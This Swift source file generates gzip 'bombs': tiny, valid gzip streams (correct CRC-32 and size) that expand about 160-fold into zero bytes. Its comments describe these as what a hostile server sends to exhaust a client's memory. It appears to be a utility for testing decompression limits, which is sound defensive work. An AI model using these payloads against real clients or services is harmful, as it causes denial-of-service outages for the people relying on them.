import Foundation

/// Gzip streams that are tiny on the wire and huge once decoded: what a hostile server sends
/// to make a client decompress itself out of memory.
///
/// The stream is one deflate block with the fixed Huffman codes (RFC 1951, 3.2.6): a literal
/// zero byte, then back-references of 258 bytes at distance 1, 13 bits each, so it expands
/// about 160 times. The gzip wrapper (RFC 1952) carries a correct CRC-32 and size, so a
/// decoder that reads to the end accepts it.
public enum GzipBomb {
    /// A gzip stream that decodes to `count` zero bytes (`count` ≥ 1).
    public static func zeros(_ count: Int) -> Data {
        precondition(count >= 1)
        var bits = BitWriter()
        bits.write(1, count: 1)  // BFINAL: the last block
        bits.write(1, count: 2)  // BTYPE 01: fixed Huffman codes
        bits.writeCode(0x30, length: 8)  // the literal 0x00
        // Length code 285 (258 bytes, no extra bits), then distance code 0 (1 byte back).
        let match = BitWriter.reversed(0xC5, length: 8) | BitWriter.reversed(0, length: 5) << 8
        var remaining = count - 1
        while remaining >= 258 {
            bits.write(match, count: 13)
            remaining -= 258
        }
        for _ in 0..<remaining {
            bits.writeCode(0x30, length: 8)
        }
        bits.writeCode(0, length: 7)  // end of block (256)
        var data = Data([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF])
        data.append(bits.finish())
        appendLittleEndian(crc32OfZeros(count), to: &data)
        appendLittleEndian(UInt32(truncatingIfNeeded: count), to: &data)
        return data
    }

    /// The CRC-32 (as gzip uses it) of `count` zero bytes, without running over them: feeding
    /// a zero byte is a linear map of the CRC register, so `count` of them is that map raised
    /// to the power `count`, by repeated squaring.
    public static func crc32OfZeros(_ count: Int) -> UInt32 {
        // The map for one zero bit, as a 32×32 matrix over GF(2), one column per word.
        var operator1Bit = [UInt32](repeating: 0, count: 32)
        operator1Bit[0] = 0xEDB8_8320
        for row in 1..<32 { operator1Bit[row] = 1 << (row - 1) }
        var power = square(square(square(operator1Bit)))  // one zero byte
        var register: UInt32 = 0xFFFF_FFFF
        var left = count
        while left > 0 {
            if left & 1 == 1 { register = times(power, register) }
            power = square(power)
            left >>= 1
        }
        return ~register
    }

    private static func times(_ matrix: [UInt32], _ vector: UInt32) -> UInt32 {
        var sum: UInt32 = 0
        var vector = vector
        var column = 0
        while vector != 0 {
            if vector & 1 == 1 { sum ^= matrix[column] }
            vector >>= 1
            column += 1
        }
        return sum
    }

    private static func square(_ matrix: [UInt32]) -> [UInt32] {
        matrix.map { times(matrix, $0) }
    }

    private static func appendLittleEndian(_ value: UInt32, to data: inout Data) {
        for shift in stride(from: 0, to: 32, by: 8) { data.append(UInt8(truncatingIfNeeded: value >> UInt32(shift))) }
    }

    /// Packs bits least significant first, as deflate does.
    private struct BitWriter {
        private var bytes: [UInt8] = []
        private var pending: UInt64 = 0
        private var pendingCount = 0

        /// Writes the low `count` bits of `value`, least significant first (header fields).
        mutating func write(_ value: UInt32, count: Int) {
            pending |= UInt64(value) << UInt64(pendingCount)
            pendingCount += count
            while pendingCount >= 8 {
                bytes.append(UInt8(truncatingIfNeeded: pending))
                pending >>= 8
                pendingCount -= 8
            }
        }

        /// Writes a Huffman code of `length` bits, most significant first.
        mutating func writeCode(_ code: UInt32, length: Int) {
            write(Self.reversed(code, length: length), count: length)
        }

        /// The low `length` bits of `code` in the opposite order.
        static func reversed(_ code: UInt32, length: Int) -> UInt32 {
            var reversed: UInt32 = 0
            for bit in 0..<length where code & (1 << UInt32(bit)) != 0 {
                reversed |= 1 << UInt32(length - 1 - bit)
            }
            return reversed
        }

        /// The bytes, the last one padded with zero bits.
        mutating func finish() -> Data {
            if pendingCount > 0 { write(0, count: 8 - pendingCount) }
            return Data(bytes)
        }
    }
}
